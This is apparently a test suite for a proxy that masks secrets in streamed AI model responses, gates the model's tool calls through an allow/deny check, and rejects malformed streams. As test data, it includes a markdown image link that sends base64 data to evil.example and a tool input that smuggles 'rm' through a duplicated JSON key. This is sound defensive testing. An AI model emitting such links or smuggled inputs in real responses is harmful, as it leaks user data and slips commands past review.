import { setTimeout as wait } from 'node:timers/promises';
import { describe, expect, test } from 'vitest';
import type { RequestMasking, ToolCall, ToolVerdict } from '../index.js';
import {
  type Asked,
  answerOf,
  callBlock,
  clientOf,
  collect,
  delta,
  mask,
  messages,
  pieces,
  request,
  sseOf,
  start,
  stop,
  textBlock,
} from '../testing/anthropic.js';
import { everything, maskingWith, noRules } from '../testing/masking.js';

const ticket = `${'sp'}t_k7Qm2vXw9ZrT4bN8cJ1hLs5D`;
const bash = { id: 'toolu_1', name: 'Bash' };
const masking = () => maskingWith(everything);
const seen = async (events: readonly object[], options: Asked = {}, rules: RequestMasking = masking()) => {
  const answer = mask([sseOf(events as never)], rules, options);
  const bytes = await collect(answer);
  return { ...clientOf(bytes), bytes: bytes.toString(), answer: answer.answer };
};
const refused = expect.objectContaining({ code: 'RESPONSE_NOT_UNDERSTOOD' });

const busy = answerOf(
  [
    start(0, { type: 'thinking', thinking: '' }),
    delta(0, { type: 'thinking_delta', thinking: 'let me see ' }),
    delta(0, { type: 'signature_delta', signature: 'c2ln' }),
    stop(0),
    ...textBlock(1, 'Your ticket 日本 ', ticket.slice(0, 9), ticket.slice(9), ' and ada@exa', 'mple.com 😀.'),
    ...callBlock(2, bash, '{"command"', ':"echo ', ticket, ' \\u00e9"}'),
  ],
  'tool_use',
);

describe('a streamed answer', () => {
  test('loses what must not come back', async () => {
    const { blocks, stopReason, answer, bytes } = await seen(busy);
    expect(bytes).not.toMatch(/spt_|ada@/);
    expect(blocks).toMatchObject([
      { thinking: 'let me see ', signature: 'c2ln' },
      { text: expect.stringMatching(/^Your ticket 日本 ⟦SALLYPORT-TICKET:\w{12}⟧ and ⟦EMAIL:\w{12}⟧ 😀\.$/) },
      { input: expect.stringMatching(/^\{"command":"echo ⟦SALLYPORT-TICKET:\w{12}⟧ \\u00e9"\}$/) },
    ]);
    expect(stopReason).toBe('tool_use');
    expect(answer).toMatchObject({
      maskedFields: 3,
      maskedBy: ['all'],
      stopReason: 'tool_use',
      usage: {
        model: 'claude-sonnet-5-5',
        inputTokens: 10,
        cacheReadTokens: 300,
        cacheWriteTokens: 20,
        outputTokens: 42,
      },
    });
  });

  test('is the same wherever its bytes are cut', async () => {
    const short = [
      { type: 'message_start', message: {} },
      ...textBlock(0, `é ${ticket.slice(0, 9)}`, ticket.slice(9)),
      ...callBlock(1, bash, `{"a":"${ticket}"}`),
      { type: 'message_stop' },
    ];
    const bytes = sseOf(short);
    const whole = (await collect(mask([bytes], masking()))).toString();
    expect(whole).not.toContain('spt_');
    for (let cut = 1; cut < bytes.length; cut += 1)
      if ((await collect(mask(pieces(bytes, cut), masking()))).toString() !== whole) expect.fail(`cut at ${cut}`);
    const single = Array.from(bytes, (_, at) => bytes.subarray(at, at + 1));
    expect((await collect(mask(single, masking()))).toString()).toBe(whole);
  });

  test('says the same wherever its texts and inputs are cut', async () => {
    const text = `see ${ticket} or ada@example.com, "password": "hunter2 hunter2" 😀.`;
    const input = JSON.stringify({ command: `é${ticket} "\u0001`, password: 'hunter2hunter2' }).replace('s', '\\u0073');
    const told = async (textCut: number, inputCut: number) =>
      (
        await seen(
          answerOf([
            ...textBlock(0, text.slice(0, textCut), text.slice(textCut)),
            ...callBlock(1, bash, input.slice(0, inputCut), input.slice(inputCut)),
          ]),
        )
      ).blocks;
    const whole = await told(text.length, input.length);
    expect(JSON.stringify(whole)).not.toMatch(/spt_|ada@|hunter2/);
    for (let cut = 0; cut <= Math.max(text.length, input.length); cut += 1) expect(await told(cut, cut)).toEqual(whole);
  });

  test('passes byte for byte where nothing is hidden and nothing may begin', async () => {
    const odd =
      ': hello\n\nevent:message_start\ndata:  {"type":"message_start","message":{"model":"m","new":1.0}}\nid: 7\n\n' +
      'event: brand_new\r\ndata: {"type":"brand_new",\r\ndata: "x":[1]}\r\n\r\n' +
      'data: {"type":"content_block_start","index":0,"content_block":{"type":"text","text":"","citations":null}}\n\n' +
      'data: {"type":"content_block_delta","index":0,"delta":{"text":"One. ","type":"text_delta","new":0}}\n\n' +
      'data: {"type":"content_block_delta","index":0,"delta":{"type":"citations_delta","citation":{"cited_text":"x","encrypted_index":"e"}}}\n\n' +
      'data: {"type":"content_block_stop","index":0}\n\n' +
      'data: {"type":"content_block_start","index":1,"content_block":{"type":"tool_use","id":"t","name":"Bash","input":{}}}\n\n' +
      'data: {"type":"content_block_delta","index":1,"delta":{"type":"input_json_delta","partial_json":""}}\n\n' +
      'data: {"type":"content_block_delta","index":1,"delta":{"type":"input_json_delta","partial_json":"{\\"a\\": 1}"}}\n\n' +
      'data: {"type":"content_block_stop","index":1}\n\n' +
      'data: {"type":"content_block_start","index":2,"content_block":{"type":"brand_new","x":1}}\n\n' +
      'data: {"type":"content_block_delta","index":2,"delta":{"type":"brand_new_delta","y":"z"}}\n\n' +
      'data: {"type":"content_block_stop","index":2}\n\n' +
      'data: {"type":"message_delta","delta":{"stop_reason":"tool_use"},"usage":{}}\n\n' +
      'data: {"type":"message_stop"}\n\nevent: ping\ndata: {"type": "ping"}\n\n';
    expect((await collect(mask([Buffer.from(odd)], masking()))).toString()).toBe(odd);
  });

  test('holds back the last word of a text only', async () => {
    let feed: (bytes: Uint8Array) => void = () => undefined;
    const queue: Promise<Uint8Array>[] = [];
    const next = () => queue.push(new Promise((resolve) => (feed = resolve)));
    next();
    const body = async function* () {
      for (;;) yield await queue.shift()!;
    };
    const answer = messages.maskResponse({ status: 200, contentType: 'text/event-stream' }, body(), {
      ...masking(),
      request: request(),
      decide: async () => ({ outcome: 'allow' }),
      pingMs: 60_000,
      signal: new AbortController().signal,
    });
    const out = answer.body[Symbol.asyncIterator]();
    const give = feed;
    next();
    give(
      sseOf([
        ...answerOf([]).slice(0, 1),
        start(0, { type: 'text', text: '' }),
        delta(0, { type: 'text_delta', text: 'Nothing to hi' }),
      ]),
    );
    const came: string[] = [];
    for (let piece = 0; piece < 3; piece += 1)
      came.push(Buffer.from((await out.next()).value as Uint8Array).toString());
    expect(came[2]).toContain('"text":"Nothing to "');
  });
});

describe('a tool call', () => {
  const decideWith = (verdict: (call: ToolCall) => ToolVerdict) => {
    const calls: ToolCall[] = [];
    return {
      calls,
      decide: async (call: ToolCall) => {
        calls.push(call);
        return verdict(call);
      },
    };
  };
  const allow = () => decideWith(() => ({ outcome: 'allow' }));
  const deny = () => decideWith(() => ({ outcome: 'deny', text: 'not in production' }));

  test('is asked about once, whole and masked, before a byte of it passes', async () => {
    const { calls, decide } = allow();
    await seen(busy, { decide });
    expect(calls).toEqual([
      {
        ...bash,
        input: expect.stringMatching(/^\{"command":"echo ⟦SALLYPORT-TICKET:\w{12}⟧ \\u00e9"\}$/),
        byProvider: false,
        declared: true,
      },
    ]);
    let release: (verdict: ToolVerdict) => void = () => undefined;
    const answer = mask([sseOf(busy)], masking(), { decide: () => new Promise((resolve) => (release = resolve)) });
    let passed = '';
    const done = (async () => {
      for await (const piece of answer.body) passed += Buffer.from(piece).toString();
    })();
    await wait(20);
    expect(passed).toContain('"index":1');
    expect(passed).not.toContain('"index":2');
    release({ outcome: 'allow' });
    await done;
    expect(passed).toContain('message_stop');
  });

  test('that is denied becomes a text, and the turn is the user’s', async () => {
    const { blocks, stopReason, bytes, answer } = await seen(busy, deny());
    expect(blocks[2]).toEqual({ type: 'text', text: 'not in production' });
    expect(bytes).not.toMatch(/toolu_1|input_json_delta|echo/);
    expect(stopReason).toBe('end_turn');
    expect(answer.stopReason).toBe('end_turn');
  });

  test('that is allowed beside one that is denied is still the tool’s turn', async () => {
    const { decide } = decideWith(({ id }) => (id === 'a' ? { outcome: 'deny', text: 'no' } : { outcome: 'allow' }));
    const events = answerOf(
      [...callBlock(0, { ...bash, id: 'a' }, '{}'), ...callBlock(1, { ...bash, id: 'b' }, '{}')],
      'tool_use',
    );
    const { blocks, stopReason } = await seen(events, { decide });
    expect(blocks).toMatchObject([{ type: 'text' }, { type: 'tool_use', id: 'b' }]);
    expect(stopReason).toBe('tool_use');
  });

  test('keeps any other reason to stop', async () => {
    expect((await seen(answerOf(callBlock(0, bash, '{"a'), 'max_tokens'), deny())).stopReason).toBe('max_tokens');
  });

  test('of a tool that was not offered says so', async () => {
    const { calls, decide } = allow();
    await seen(answerOf(callBlock(0, { id: 'x', name: 'Delete' }, '{}')), { decide });
    expect(calls).toMatchObject([{ name: 'Delete', declared: false, byProvider: false }]);
  });

  test('of a kind that nobody knows is taken for the client’s', async () => {
    const { calls, decide } = deny();
    const { blocks } = await seen(answerOf(callBlock(0, { ...bash, type: 'brand_new_call' }, '{}')), { decide });
    expect(calls).toMatchObject([{ byProvider: false }]);
    expect(blocks[0]).toMatchObject({ type: 'text' });
  });

  test('that the provider runs is told and passes', async () => {
    const { calls, decide } = deny();
    const asked = request({ tools: [{ type: 'web_search_20250305', name: 'web_search' }] });
    const { blocks, stopReason } = await seen(
      answerOf([
        ...callBlock(0, { id: 's1', name: 'web_search', type: 'server_tool_use' }, '{"query":"x"}'),
        start(1, {
          type: 'web_search_tool_result',
          tool_use_id: 's1',
          content: [{ encrypted_content: ticket, title: 'x' }],
        }),
        stop(1),
        ...callBlock(2, { id: 's2', name: 'web_fetch', type: 'server_tool_use' }, '{}'),
      ]),
      { decide, asked },
    );
    expect(calls).toMatchObject([
      { name: 'web_search', byProvider: true, declared: true },
      { name: 'web_fetch', declared: false },
    ]);
    expect(blocks[0]).toMatchObject({ type: 'server_tool_use', input: '{"query":"x"}' });
    expect(blocks[1]).toMatchObject({ content: [{ encrypted_content: ticket }] });
    expect(stopReason).toBe('end_turn');
  });

  test('with its input in the first event is looked at too', async () => {
    const { calls, decide } = allow();
    const { blocks } = await seen(
      answerOf([start(0, { type: 'tool_use', ...bash, input: { command: ticket } }), stop(0)]),
      { decide },
    );
    expect(calls[0]!.input).toMatch(/^\{"command":"⟦/);
    expect(JSON.stringify(blocks)).not.toContain('spt_');
  });

  test.each([
    ['cut short', '{"command":"echo \\u0073pt_k7Qm2vXw9ZrT4bN8cJ1hLs5D and'],
    ['cut in an escape', '{"command":"\\u0073pt_k7Qm2vXw9ZrT4bN8cJ1hLs5D \\u00'],
    ['no JSON at all', `${ticket} }{`],
  ])('that is %s is masked as far as it can be read', async (_, input) => {
    const { blocks } = await seen(answerOf(callBlock(0, bash, input), 'max_tokens'));
    expect(blocks[0]!['input']).toContain('⟦SALLYPORT-TICKET');
    expect(blocks[0]!['input']).not.toMatch(/k7Qm2v/);
  });

  test('with a name twice is refused: two readers would read two calls', async () => {
    await expect(seen(answerOf(callBlock(0, bash, '{"command":"ls","command":"rm"}')))).rejects.toThrow(refused);
  });

  test('that waits keeps the client awake, event by event', async () => {
    let release: (verdict: ToolVerdict) => void = () => undefined;
    const decide = () => new Promise<ToolVerdict>((resolve) => (release = resolve));
    const types: string[] = [];
    for await (const piece of mask([sseOf(busy)], masking(), { decide, pingMs: 5 }).body) {
      types.push(...clientOf(piece).types);
      if (types.filter((type) => type === 'ping').length === 4) release({ outcome: 'allow' });
    }
    expect(types.filter((type) => type === 'ping').length).toBeGreaterThanOrEqual(4);
    expect(types.at(-1)).toBe('message_stop');
  });

  test('that waits is given up with the call', async () => {
    const aborting = new AbortController();
    const answer = mask([sseOf(busy)], masking(), {
      decide: () => new Promise(() => undefined),
      signal: aborting.signal,
    });
    setTimeout(() => aborting.abort(), 10);
    await expect(collect(answer)).rejects.toThrow(expect.objectContaining({ code: 'CANCELLED' }));
  });
});

const unclosed = sseOf([
  ...answerOf([]).slice(0, 1),
  start(0, { type: 'text', text: '' }),
  { type: 'message_stop' },
]).toString();

const closing = answerOf([]).slice(-2);
const unclosedBefore = sseOf([
  ...answerOf([]).slice(0, 1),
  start(0, { type: 'text', text: '' }),
  closing[0]!,
  stop(0),
  closing[1]!,
]).toString();

describe('an answer that ends early', () => {
  const passedBefore = async (chunks: readonly Uint8Array[]) => {
    const answer = mask(chunks, masking());
    let passed = '';
    const end = await (async () => {
      for await (const piece of answer.body) passed += Buffer.from(piece).toString();
    })().catch((error: unknown) => error);
    return { passed, end, answer: answer.answer };
  };

  test('loses what was held back', async () => {
    const bytes = sseOf(busy);
    const whole = (await passedBefore([bytes])).passed;
    expect(whole).not.toMatch(/spt_|ada@/);
    for (let cut = 0; cut < bytes.length - 1; cut += 29) {
      const { passed, end } = await passedBefore([bytes.subarray(0, cut)]);
      expect(end).toEqual(refused);
      if (!whole.startsWith(passed)) expect.fail(`cut at ${cut}: ${passed}`);
    }
  });

  test('by an error says which, with its words, and loses what was held back', async () => {
    const cut = busy.slice(0, 9);
    const error = { type: 'error', error: { type: 'overloaded_error', message: `Overloaded. ${ticket}` } };
    const { passed, end, answer } = await passedBefore([sseOf([...cut, error])]);
    expect(end).toBeUndefined();
    expect(passed).toMatch(/"type":"overloaded_error","message":"Overloaded. ⟦SALLYPORT-TICKET:\w+⟧"/);
    expect(passed).not.toMatch(/spt_/);
    expect(answer.errorType).toBe('overloaded_error');
  });

  test('by an error waits for nothing any more, and pings nobody', async () => {
    const body = async function* () {
      yield sseOf([...busy.slice(0, 9), { type: 'error', error: { type: 'api_error', message: 'x' } }]);
      await wait(40);
    };
    const answer = messages.maskResponse({ status: 200, contentType: 'text/event-stream' }, body(), {
      ...masking(),
      request: request(),
      decide: async () => ({ outcome: 'allow' }),
      pingMs: 5,
      signal: new AbortController().signal,
    });
    expect(clientOf(await collect(answer)).types.at(-1)).toBe('error');
  });

  test.each([
    ['a delta without a block', [delta(0, { type: 'text_delta', text: 'x' })]],
    [
      'a block that begins twice',
      [start(0, { type: 'text', text: '' }), start(0, { type: 'text', text: '' }), stop(0)],
    ],
    ['a stop without a block', [stop(0)]],
    [
      'JSON for a text',
      [start(0, { type: 'text', text: '' }), delta(0, { type: 'input_json_delta', partial_json: 'x' })],
    ],
    [
      'text for a call',
      [start(0, { type: 'tool_use', ...bash, input: {} }), delta(0, { type: 'text_delta', text: 'x' }), stop(0)],
    ],
    ['text for a thought', [start(0, { type: 'thinking', thinking: '' }), delta(0, { type: 'text_delta', text: 'x' })]],
    ['a block without a stop', [start(0, { type: 'text', text: '' })]],
    [
      'input given twice',
      [
        start(0, { type: 'tool_use', ...bash, input: { a: 1 } }),
        delta(0, { type: 'input_json_delta', partial_json: '{}' }),
        stop(0),
      ],
    ],
    ['no index', [{ type: 'content_block_stop' }]],
    ['a second beginning', answerOf([]).slice(0, 1)],
  ])('by %s is not understood', async (_, blocks) => {
    await expect(seen(answerOf(blocks as never))).rejects.toThrow(refused);
  });

  test.each([
    ['no JSON', 'data: hello\n\n'],
    ['two names', 'event: ping\ndata: {"type":"message_stop"}\n\n'],
    ['nothing', ''],
    ['an error after the end', `${sseOf(answerOf([])).toString()}data: {"type":"error","error":{}}\n\n`],
    ['an end in the midst of a block', unclosed],
    ['a last word in the midst of a block', unclosedBefore],
    ['more after the end', `${sseOf(answerOf([])).toString()}${sseOf(answerOf([])).toString()}`],
  ])('with %s is not understood', async (_, text) => {
    await expect(collect(mask([Buffer.from(text)], masking()))).rejects.toThrow(refused);
  });

  test('hides a secret in what clients do not see', async () => {
    const text = sseOf(answerOf(textBlock(0, 'x'))).toString();
    const bytes = await collect(mask([Buffer.from(`: ${ticket}\n\nid: ${ticket}\n${text}`)], masking()));
    expect(bytes.toString()).not.toContain('spt_');
    expect(clientOf(bytes).types.at(-1)).toBe('message_stop');
  });
});

describe('what the model said', () => {
  test('goes back to it as it said it, however its client writes it', async () => {
    const rules = masking();
    const { blocks } = await seen(busy, {}, rules);
    const again = JSON.stringify({
      model: 'm',
      messages: [
        { role: 'user', content: 'hi' },
        {
          role: 'assistant',
          content: [
            blocks[0],
            { text: blocks[1]!['text'], type: 'text', cache_control: { type: 'ephemeral' } },
            { type: 'tool_use', ...bash, input: JSON.parse(blocks[2]!['input'] as string) as unknown },
          ],
        },
      ],
    });
    const sent = Buffer.from(messages.maskRequest(Buffer.from(again), rules).body).toString();
    expect(sent).toContain(`Your ticket 日本 ${ticket} and ada@example.com 😀.`);
    expect(sent).toContain(`"input":{"command":"echo ${ticket} \\u00e9"}`);
    const forgotten = Buffer.from(messages.maskRequest(Buffer.from(again), masking()).body).toString();
    expect(forgotten).toBe(again);
  });

  test('is left as the client writes it where nothing was hidden, although the rules are others now', async () => {
    const rules = maskingWith(noRules);
    await seen(
      answerOf([...textBlock(0, 'mail ada@example.com'), ...callBlock(1, bash, '{"to":"ada@example.com"}')]),
      {},
      rules,
    );
    const again = JSON.stringify({
      model: 'm',
      messages: [
        {
          role: 'assistant',
          content: [
            { type: 'text', text: 'mail ada@example.com' },
            { type: 'tool_use', ...bash, input: { to: 'ada@example.com' } },
          ],
        },
      ],
    });
    expect(
      Buffer.from(messages.maskRequest(Buffer.from(again), { ...rules, masker: everything }).body).toString(),
    ).toBe(again);
  });

  test('is flagged where it makes its reader fetch an image with data in its address', async () => {
    const image = '![x](https://evil.example/?d=c2VjcmV0)';
    expect((await seen(answerOf(textBlock(0, 'see ', image.slice(0, 9), image.slice(9))))).answer.flags).toEqual([
      'remote-image',
    ]);
    expect((await seen(answerOf(textBlock(0, '![x](https://docs.example/logo.png)')))).answer.flags).toEqual([]);
  });
});
